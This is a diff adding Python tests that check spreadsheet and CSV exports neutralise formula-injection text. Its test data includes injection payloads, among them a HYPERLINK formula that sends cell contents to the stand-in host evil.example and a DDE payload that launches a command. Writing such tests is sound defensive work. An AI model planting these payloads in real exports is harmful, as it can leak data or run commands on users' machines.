@@ -83,3 +83,39 @@ def test_file_response_inline_for_pdf():
     response = file_response("report.pdf", "application/pdf", b"%PDF", inline=True)
     assert response["Content-Disposition"].startswith("inline;")
     assert file_response("a.csv", CSV_CONTENT_TYPE, b"x")["Content-Type"] == CSV_CONTENT_TYPE
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =cmd|' /C calc'!A0",
+    "\u200b=1+1",
+    "#N/A",
+]
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_excel():
+    columns = [Column(h) for h in HOSTILE]
+    data = xlsx_bytes(Sheet("x", columns, [HOSTILE, [Decimal("-500"), -3, -1.5]], heading=HOSTILE[0],
+                            subheading="=1+1"))  # fmt: skip
+    ws = load_workbook(io.BytesIO(data)).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type != "s" and isinstance(c.value, str)]
+    assert all(
+        not str(c.value).startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells if c.data_type == "s"
+    )
+    assert ws["A1"].value == "'" + HOSTILE[0]  # what was typed, shown, not run
+    numbers = [c.value for c in ws[ws.max_row]]
+    assert numbers[:3] == [-500, -3, -1.5]  # numbers typed as numbers stay numbers
+
+
+def test_text_that_looks_like_a_formula_gets_a_quote_in_csv():
+    data = csv_bytes(HOSTILE, [HOSTILE, [Decimal("-500"), -3, "ก-ข", " ถนน 3"]])
+    header, texts, numbers = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    for row in (header, texts):
+        assert row == ["'" + h if h != "#N/A" else h for h in HOSTILE]
+    assert numbers == ["-500", "-3", "ก-ข", " ถนน 3"]
